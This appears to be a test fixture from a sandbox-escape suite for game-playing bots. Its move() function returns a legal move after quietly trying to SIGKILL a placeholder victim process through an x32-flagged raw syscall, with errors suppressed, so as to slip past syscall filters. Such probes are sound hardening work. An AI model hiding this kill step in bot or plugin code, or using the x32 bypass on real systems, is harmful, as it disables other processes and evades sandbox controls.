"""Kills another process by a system call of the x32 kind, whose numbers differ.

kind: kernel corners
proof: victim
control: no: x32 is not built into this kernel (ENOSYS)
expect: plays, crash
"""

import ctypes
import os
import signal
from contextlib import suppress

X32, KILL = 0x40000000, 62


def move(position):
    with suppress(Exception):
        if os.uname().machine == "x86_64":
            ctypes.CDLL(None).syscall(X32 | KILL, int("@VICTIM@"), signal.SIGKILL)
    return position.legal_moves[0]
